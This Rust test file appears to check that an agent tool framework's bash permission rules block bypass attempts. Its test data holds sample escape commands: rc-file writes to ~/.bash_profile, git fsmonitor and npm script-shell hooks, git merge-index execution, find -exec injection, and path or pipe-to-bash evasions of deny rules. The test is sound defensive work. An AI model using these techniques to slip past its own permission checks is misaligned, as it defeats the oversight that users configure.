    let outside = root.join("../outside").display().to_string();
    let call = |policy: Policy, arguments: serde_json::Value| {
        let executor = executor(policy, toolpost_tools::shell::Settings::default());
        let ctx = session(root).build();
        crate::run(async { executor.run(&ctx, toolpost_core::Call::new("bash", arguments)).await })
    };
    for (rules, arguments) in [
        (&["ls *"][..], json!({"command": "ls; echo 'touch pwned' > ~/.bash_profile; bash -lc true"})),
        (&["ls *"], json!({"command": format!("ls > {outside}")})),
        (&["ls *"], json!({"command": "ls > ../outside", "workdir": "."})),
        (&["git status*"], json!({"command": "echo '[core] fsmonitor=./ev.sh' > ~/.gitconfig; git status"})),
        (&["npm test"], json!({"command": "echo script-shell=./ev.sh > ~/.npmrc; npm test"})),
        (&["./run *"], json!({"command": "./run x", "workdir": "evil"})),
        (&["./run *"], json!({"command": "./run x", "workdir": root.join("evil").display().to_string()})),
        (&["./run *"], json!({"command": "cd evil && ./run x"})),
        (&["git *"], json!({"command": "git merge-index ./ev.sh -a"})),
        (&["find *"], json!({"command": "find . ''{},-exec,touch,pwned,\\;}"})),
        (&["find *"], json!({"command": "echo -exec touch pwned \\; | xargs -I X -n 20 find . -maxdepth 0"})),
    ] {
        let outcome = call(policy(rules), arguments.clone());
        let code = crate::code(&outcome);
        assert!(
            matches!(code, "PERMISSION_DENIED" | "PROTECTED_FILE"),
            "{arguments} {}",
            crate::shown(&outcome)
        );
        assert!(!root.join("pwned").exists() && !root.join("evil/pwned").exists(), "{arguments}");
    }
    for (action, rule, command) in [
        ("Bash", "touch *", "touch pwned"),
        ("bash", "touch *", "/bin/../bin/touch pwned"),
        ("bash", "touch *", "cd /usr/bin && ./touch \"$OLDPWD/pwned\""),
        ("bash", "touch *", "echo touch pwned | bash"),
        ("bash", "git push *", "git -C . push"),
    ] {
        let rule = Rule::new(Effect::Deny, action, rule, Origin::new(Layer::User, "rules.toml", 1)).unwrap();
        let policy = crate::bash::standard_and_exec().with_rules(Layer::User, vec![rule]);
        let outcome = call(policy, json!({ "command": command }));
        assert_eq!(crate::code(&outcome), "PERMISSION_DENIED", "{command} {}", crate::shown(&outcome));
        assert!(!root.join("pwned").exists(), "{command}");
    }
    // What the rules are for still works, also in a folder of its own and by an absolute path of the workspace.
    for (rules, arguments, expected) in [
        (&["./run *"][..], json!({"command": "./run x"}), "ran\n"),
        (&["./evil/run *"], json!({"command": "./run x", "workdir": "evil"}), "[no output, exit code 0]"),
        (&["./run *"], json!({"command": "./run x", "workdir": root.display().to_string()}), "ran\n"),
        (&["./run *"], json!({"command": root.join("run").display().to_string()}), "ran\n"),
        (
            &["echo *"],
            json!({"command": format!("echo hi > {}", root.join("a.txt").display())}),
            "[no output, exit code 0]",
        ),
    ] {
        assert_eq!(crate::shown(&call(policy(rules), arguments.clone())), expected, "{arguments}");
    }
}
